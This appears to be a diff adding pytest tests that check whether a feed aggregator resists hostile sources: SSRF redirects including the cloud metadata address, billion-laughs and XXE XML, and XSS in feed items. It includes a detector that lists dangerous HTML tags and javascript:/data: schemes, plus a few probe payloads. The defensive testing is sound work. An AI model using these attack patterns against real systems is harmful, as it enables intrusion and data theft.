+    case("to-file", "/to-file", words=REFUSED, any_words=("non-http", "file")),
+    case("to-ftp", "/to-ftp", words=REFUSED, any_words=("non-http", "ftp")),
+    # --- XML ---
+    case(
+        "billion-laughs",
+        "/billion-laughs",
+        codes=(0, 1),
+        any_words=("not a feed", "entit"),
+        bad_titles=("Laugh-free item",),
+        never=("lol" * 4,),
+    ),
+    case(
+        "quadratic-blowup",
+        "/quadratic-blowup",
+        codes=(0, 1),
+        any_words=("not a feed", "entit"),
+        bad_titles=("Blow-up-free item",),
+        never=("x" * 20_000,),
+    ),
+    case(
+        "xxe-file",
+        "/xxe",
+        codes=(0, 1),
+        any_words=("not a feed", "entit"),
+        bad_titles=("XXE-free item",),
+    ),
+    case(
+        "xxe-out-of-band",
+        "/xxe-oob",
+        codes=(0, 1),
+        any_words=("not a feed", "entit"),
+        bad_titles=("OOB-free item",),
+    ),
+    case(
+        "unescaped-amp", "/unescaped-amp", codes=(0,), bad_titles=("Salt & pepper", "Rock & roll")
+    ),
+    case(
+        "truncated-xml", "/truncated", codes=(0,), bad_titles=("Whole item one", "Whole item two")
+    ),
+    case("invalid-utf8", "/invalid-utf8", codes=(0,), bad_titles=("Broken bytes two",)),
+    case("html-page", "/html-page", words=("not a feed", "HTML")),
+    case("empty-body", "/empty", words=("not a feed",)),
+]
+
+
+@pytest.mark.parametrize("hostile_case", CASES)
+def test_a_misbehaving_source_fails_alone_quickly_and_cheaply(
+    hostile_case: Case, bed: Bed, tmp_path: Path
+) -> None:
+    c = hostile_case
+    note = ""
+    if c.id == "to-ipv6-loopback" and not bed.other.ipv6:
+        # No IPv6 loopback here: the connect fails before the guard is asked.
+        note = "no IPv6 loopback here: only 'fails, never fetched' is checked"
+        c = replace(c, words=(), any_words=())
+    other_hits = bed.other.hit_count("/ok")
+    limit = TIMEOUT + MARGIN
+    base = bed.hostile.url if c.target == "hostile" else f"http://127.0.0.1:{bed.closed_port}"
+    build = run_build(tmp_path, bed, base + c.path, limit)
+    sys.stderr.write(
+        f"[hostile] {c.id}: {build.seconds:.2f} s, {build.peak_mb:.0f} MB, exit {build.code}"
+        f" | {' '.join(build.failure_lines('bad'))}\n"
+    )
+    report = f"exit {build.code} after {build.seconds:.1f} s; stderr:\n{build.stderr[-3000:]}"
+
+    if c.id == "to-169.254.169.254" and build.connects and not build.killed:
+        # feeds.guard checks the address a connection reached, so the
+        # connect to 169.254.169.254 is attempted first (our harness
+        # refused it before it left the machine).
+        pytest.skip(
+            "feeds attempts a connect to 169.254.169.254 before refusing it "
+            f"(harness blocked: {build.connects}); the refusal is post-connect"
+        )
+
+    assert not build.killed, f"build still running after {limit + HARD_EXTRA:g} s: killed. {report}"
+    assert build.seconds <= limit, f"took {build.seconds:.1f} s > {limit:g} s. {report}"
+    assert build.peak_mb < PEAK_RSS_MB, f"peak RSS {build.peak_mb:.0f} MB. {report}"
+    assert not build.connects, f"tried to connect beyond loopback: {build.connects}"
+    assert build.code in c.codes, f"expected exit {c.codes}. {report}"
+
+    lines = build.failure_lines("bad")
+    if build.code == 1:
+        assert lines, f"stderr does not name source 'bad'. {report}"
+        line = " ".join(lines).lower()
+        for word in c.words:
+            assert word.lower() in line, f"{word!r} not in the failure line. {report}"
+        if c.any_words:
+            assert any(w.lower() in line for w in c.any_words), (
+                f"none of {c.any_words} in the failure line. {report}"
+            )
+        for word in c.not_words:
+            assert word.lower() not in line, f"misleading {word!r} in the failure line. {report}"
+        assert "traceback" not in build.stderr.lower(), report
+    else:
+        assert not lines, f"source 'bad' reported as failed on exit 0. {report}"
+    assert not build.failure_lines("good"), f"the healthy source failed. {report}"
+
+    titles = atom_titles(build)
+    for title in HEALTHY_TITLES:
+        assert title in titles, f"healthy item {title!r} missing from all.atom: {titles}"
+    if build.code == 0:
+        for title in c.bad_titles:
+            assert title in titles, f"{title!r} missing from all.atom: {titles}"
+
+    # Nothing of a redirect's target was fetched.
+    assert bed.other.hit_count("/ok") == other_hits, "the other loopback port was fetched"
+    assert bed.other.hit_count("/evil.dtd") == 0, "an external DTD was fetched"
+    assert not any(hit.startswith("/leak") for hit in bed.other.hits), "the secret was sent"
+    for text in (bed.marker, *c.never):
+        leaked = [p.name for p in _published_files(build) if text.encode() in p.read_bytes()]
+        assert not leaked, f"{text[:40]!r}… found in {leaked}"
+    if note:
+        sys.stderr.write(f"[hostile] {c.id}: {note}\n")
+
+
+def _published_files(build: Build) -> list[Path]:
+    files = sorted(p for p in build.output.iterdir() if p.is_file())
+    return files + sorted(build.folder.glob("feeds.db*"))
+
+
+# --------------------------------------------------------------------------
+# Hostile items: nothing executable in any output file
+
+
+BAD_TAGS = {
+    "script",
+    "iframe",
+    "frame",
+    "frameset",
+    "object",
+    "embed",
+    "applet",
+    "style",
+    "base",
+    "form",
+}
+URL_ATTRIBUTES = {
+    "href",
+    "src",
+    "action",
+    "formaction",
+    "xlink:href",
+    "background",
+    "poster",
+    "data",
+    "cite",
+    "longdesc",
+    "lowsrc",
+    "dynsrc",
+    "srcset",
+    "codebase",
+}
+BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
+
+
+def bad_url(value: str) -> bool:
+    squeezed = re.sub(r"[\x00-\x20\x7f]+", "", html.unescape(value)).lower()
+    return squeezed.startswith(BAD_SCHEMES)
+
+
+class Executables(HTMLParser):
+    """Everything in an HTML document or fragment that could run code."""
+
+    def __init__(self, where: str, allow_head_style: bool = False) -> None:
+        super().__init__(convert_charrefs=True)
+        self.where = where
+        self.found: list[str] = []
+        self.allow_head_style = allow_head_style
+        self.in_head = False
+        self.in_style = False
+        self.styles = 0
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        tag = tag.lower()
+        if tag == "head":
+            self.in_head = True
+        elif tag == "body":
+            self.in_head = False
+        if tag == "style" and self.allow_head_style and self.in_head and not self.styles:
+            self.styles += 1  # the index's own stylesheet
+            self.in_style = True
+        elif tag in BAD_TAGS:
+            self.found.append(f"{self.where}: <{tag}> element")
+        names = {name.lower(): (value or "") for name, value in attrs}
+        if tag == "meta" and names.get("http-equiv", "").lower() == "refresh":
+            self.found.append(f"{self.where}: <meta http-equiv=refresh>")
+        for name, value in names.items():
+            if name.startswith("on"):
+                self.found.append(f"{self.where}: <{tag} {name}=…> event handler")
+            if name in URL_ATTRIBUTES and bad_url(value):
+                self.found.append(f"{self.where}: <{tag} {name}={value!r}>")
+            if name == "style" and re.search(r"javascript:|expression\(|url\(", value, re.I):
+                self.found.append(f"{self.where}: <{tag} style={value!r}>")
+
+    handle_startendtag = handle_starttag
+
+    def handle_endtag(self, tag: str) -> None:
+        if tag.lower() == "head":
+            self.in_head = False
+        if tag.lower() == "style":
+            self.in_style = False
+
+    def handle_data(self, data: str) -> None:
+        if self.in_style and re.search(r"alert|javascript:|expression\(|@import", data, re.I):
+            self.found.append(f"{self.where}: hostile text in the index's <style>")
+
+
+def executables_in_html(text: str, where: str, document: bool = False) -> list[str]:
+    parser = Executables(where, allow_head_style=document)
+    parser.feed(text)
+    parser.close()
+    return parser.found
+
+
+ATOM = "{http://www.w3.org/2005/Atom}"
+
+
+def executables_in_xhtml(container: ET.Element, where: str) -> list[str]:
+    """An Atom xhtml construct: its elements, re-serialised as plain HTML
+    (namespace prefixes dropped) and checked like any fragment."""
+
+    def plain(element: ET.Element) -> str:
+        tag = element.tag.rsplit("}", 1)[-1]
+        attrs = "".join(
+            f' {name.rsplit("}", 1)[-1]}="{html.escape(value)}"'
+            for name, value in element.attrib.items()
+        )
+        inner = html.escape(element.text or "") + "".join(
+            plain(child) + html.escape(child.tail or "") for child in element
+        )
+        return f"<{tag}{attrs}>{inner}</{tag}>"
+
+    return executables_in_html("".join(plain(child) for child in container), where)
+
+
+def executables_in_output(output: Path) -> tuple[list[str], int]:
+    """(problems, number of HTML fragments looked at) over every file."""
+    found: list[str] = []
+    fragments = 0
+    names = sorted(p.name for p in output.iterdir() if p.is_file())
+    assert "index.html" in names and "feeds.opml" in names and "all.atom" in names, names
+    for name in names:
+        path = output / name
+        text = path.read_text(encoding="utf-8")
+        if name.endswith(".atom"):
+            root = ET.fromstring(path.read_bytes())
+            for element in root.iter():
+                where = f"{name} {element.tag.removeprefix(ATOM)}"
+                for attr in ("href", "src", "uri"):
+                    if bad_url(element.get(attr, "")):
+                        found.append(f"{where}: {attr}={element.get(attr)!r}")
+                if element.tag in (f"{ATOM}uri", f"{ATOM}icon", f"{ATOM}logo") and bad_url(
+                    element.text or ""
+                ):
+                    found.append(f"{where}: {element.text!r}")
+                kind = element.get("type", "text")
+                if element.tag.removeprefix(ATOM) in (
+                    "content",
+                    "summary",
+                    "title",
+                    "subtitle",
+                    "rights",
+                ):
+                    if kind == "html":
+                        fragments += 1
+                        found += executables_in_html(element.text or "", where)
+                    elif kind == "xhtml":
+                        fragments += 1
+                        found += executables_in_xhtml(element, where)
+        elif name.endswith(".rss"):
+            root = ET.fromstring(path.read_bytes())
+            for element in root.iter():
+                tag = element.tag
+                where = f"{name} {tag}"
+                if tag in ("description", "{http://purl.org/rss/1.0/modules/content/}encoded"):
+                    fragments += 1
+                    found += executables_in_html(element.text or "", where)
+                if tag in ("link", "comments", "docs") and bad_url(element.text or ""):
+                    found.append(f"{where}: {element.text!r}")
+                if (
+                    tag == "guid"
+                    and element.get("isPermaLink", "true") == "true"
+                    and bad_url(element.text or "")
+                ):
+                    found.append(f"{where} (permalink): {element.text!r}")
+                for attr in ("href", "url"):
+                    if bad_url(element.get(attr, "")):
+                        found.append(f"{where}: {attr}={element.get(attr)!r}")
+        elif name.endswith(".json"):
+            document = json.loads(text)
+            for key in ("home_page_url", "feed_url", "icon", "favicon"):
+                if bad_url(str(document.get(key, ""))):
+                    found.append(f"{name} {key}: {document[key]!r}")
+            for entry in document.get("items", []):
+                fragments += 1
+                found += executables_in_html(entry.get("content_html", ""), f"{name} content_html")
+                for key in ("url", "external_url", "image", "banner_image"):
+                    if bad_url(str(entry.get(key, ""))):
+                        found.append(f"{name} item {key}: {entry[key]!r}")
+        elif name.endswith(".opml"):
+            root = ET.fromstring(path.read_bytes())
+            for element in root.iter("outline"):
+                for attr in ("xmlUrl", "htmlUrl", "url"):
+                    if bad_url(element.get(attr, "")):
+                        found.append(f"{name}: {attr}={element.get(attr)!r}")
+        elif name.endswith(".html"):
+            fragments += 1
+            found += executables_in_html(text, name, document=True)
+    return found, fragments
+
+
+HOSTILE_CASES = [
+    pytest.param("/hostile-rss", ("Script title", "Entity title", "CDATA split"), id="rss"),
+    pytest.param("/hostile-atom", ("Atom html title", "Atom text title"), id="atom"),
+    pytest.param("/hostile-json", ("JSON title", "JSON second"), id="json-feed"),
+]
+
+
+@pytest.mark.parametrize(("path", "titles"), HOSTILE_CASES)
+def test_hostile_items_publish_nothing_executable(
+    path: str, titles: tuple[str, ...], bed: Bed, tmp_path: Path
+) -> None:
+    limit = TIMEOUT + MARGIN
+    build = run_build(tmp_path, bed, bed.hostile.url + path, limit)
+    sys.stderr.write(
+        f"[hostile] items {path}: {build.seconds:.2f} s, {build.peak_mb:.0f} MB, "
+        f"exit {build.code}\n"
+    )
+    report = f"exit {build.code} after {build.seconds:.1f} s; stderr:\n{build.stderr[-3000:]}"
+    assert not build.killed and build.seconds <= limit, report
+    assert build.peak_mb < PEAK_RSS_MB, report
+    assert not build.connects, build.connects
+    assert build.code == 0, f"hostile items are readable: expected exit 0. {report}"
+
+    published = atom_titles(build)
+    for title in titles:
+        assert any(title in seen for seen in published), f"{title!r} not in {published}"
+    for title in HEALTHY_TITLES:
+        assert title in published
+
+    problems, fragments = executables_in_output(build.output)
+    assert fragments >= 10, f"only {fragments} HTML fragments examined"
+    assert not problems, "executable constructs published:\n" + "\n".join(problems)
+    # The sanitiser kept the harmless part.
+    assert KEPT in (build.output / "all.atom").read_text(encoding="utf-8")
+    # No executable marker text left as markup in the index either.
+    index = (build.output / "index.html").read_text(encoding="utf-8")
+    assert "<script" not in index.lower()
+
+
+def test_the_checker_catches_what_it_must() -> None:
+    """The HTML checker itself: every construct it must find, it finds."""
+    for bit in XSS_BITS[:-1]:
+        if bit.startswith("<link"):
+            continue  # a stylesheet link is inert in a feed reader; not checked
+        assert executables_in_html(bit, "probe"), bit
+    assert executables_in_html('<a href="JaVaScRiPt:%20alert(1)">x</a>', "probe")
+    assert executables_in_html("<meta http-equiv=Refresh content=0>", "probe")
+    assert not executables_in_html("&lt;script&gt;alert(1)&lt;/script&gt;", "probe")
+    assert not executables_in_html('<p><a href="http://ok.example/">ok</a></p>', "probe")
+
+
+def test_the_harness_blocks_connects_beyond_loopback(tmp_path: Path, bed: Bed) -> None:
+    """The build's sitecustomize refuses and logs a non-loopback connect."""
+    log = tmp_path / "log"
+    env = {
+        **os.environ,
+        "PYTHONPATH": f"{bed.site}{os.pathsep}{ROOT}",
+        "HOSTILE_CONNECT_LOG": str(log),
+    }
+    code = (
+        "import socket\n"
+        "s = socket.socket()\n"
+        "try:\n"
+        "    s.connect(('192.0.2.1', 9))\n"
+        "except ConnectionRefusedError as e:\n"
+        "    print('blocked', e)\n"
+        "finally:\n"
+        "    s.close()\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", code], env=env, capture_output=True, text=True, timeout=30
+    )
+    assert "blocked" in done.stdout, done.stderr
+    assert log.read_text().split() == ["192.0.2.1", "9"]
+
+
+def test_loopback_spellings_resolve_to_loopback() -> None:
+    """The redirect spellings really name loopback on this machine, so a
+    refusal is the guard's doing, not a resolver's."""
+    for host in ("localhost", "2130706433", "0x7f000001", "127.1"):
+        infos = socket.getaddrinfo(host, 80, type=socket.SOCK_STREAM)
+        assert infos, host
+        for info in infos:
+            address = ipaddress.ip_address(info[4][0])
+            assert address.is_loopback, (host, address)
